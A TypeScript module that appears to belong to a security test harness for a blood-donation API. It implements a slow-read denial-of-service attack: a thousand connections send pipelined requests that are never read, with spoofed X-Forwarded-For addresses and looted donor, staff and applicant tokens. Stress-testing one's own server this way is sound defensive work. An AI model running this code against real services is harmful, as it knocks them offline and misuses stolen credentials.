import { headOf, openUnread } from '../../unread/connection.ts';
import { addressOf, type Caller } from '../ask.ts';
import type { Attack, Attacker } from './attack.ts';

const CONNECTIONS = 1_000;
/** Calls of a connection in turn: many break it, one holds an answer for each connection. */
const CALLS = [16, 1] as const;
/** How long a round of connections is held open: longer than the server needs to make all answers. */
const HELD_MS = 8_000;
const BETWEEN_MS = 1_000;
const LIST = '/requests/by-blood-type?limit=100';

interface Round {
  readonly callers: readonly Caller[];
  readonly path: string;
}

/** Addresses of the connections of nobody: above those of everybody with an account. */
const NOBODY_FROM = 1 << 20;

function roundsOf({ loot }: Attacker): Round[] {
  const nobody = Array.from({ length: CONNECTIONS }, (_, index) => ({
    address: addressOf(NOBODY_FROM + index),
  }));
  const ofDonors = ['/auth/export', '/auth/photo', LIST].flatMap((path) => [
    { callers: loot.donors.slice(0, 1), path },
    { callers: loot.donors.slice(0, 10), path },
  ]);
  const ofHospital = ['/requests/hospital?limit=100', `/requests/${loot.requestId}/responses`].map(
    (path) => ({
      callers: loot.staff,
      path,
    }),
  );
  const ofApplicants = loot.applicants.map((applicant) => ({
    callers: [applicant],
    path: `/hospital/documents/${applicant.documentId}`,
  }));
  return [
    ...['/openapi.json', '/regions', '/push/public-key'].map((path) => ({ callers: nobody, path })),
    ...ofDonors,
    ...ofHospital,
    ...ofApplicants,
  ];
}

const callOf = (host: string, path: string, { token, address }: Caller): string =>
  headOf(`GET /api${path}`, {
    Host: host,
    'X-Forwarded-For': address,
    Authorization: token && `Bearer ${token}`,
  });

/**
 * Reads nothing: hundreds of connections, each with one call or 16 in a row whose answers stay in the server, by
 * nobody, by one account and by ten, for one big answer after the other.
 */
export const readNothing: Attack = async (attacker) => {
  const url = new URL(attacker.base);
  const rounds = roundsOf(attacker);
  for (let turn = 0; !attacker.isOver(); turn += 1) {
    const { callers, path } = rounds[turn % rounds.length] as Round;
    const calls = CALLS[turn % CALLS.length] ?? 1;
    const sockets = await Promise.all(
      Array.from({ length: CONNECTIONS }, (_, index) => {
        const caller = callers[index % callers.length] as Caller;
        return openUnread(url, callOf(url.host, path, caller).repeat(calls));
      }),
    );
    attacker.count('calls unread', sockets.filter(Boolean).length * calls);
    await attacker.rest(HELD_MS);
    for (const socket of sockets) socket?.destroy();
    await attacker.rest(BETWEEN_MS);
  }
};
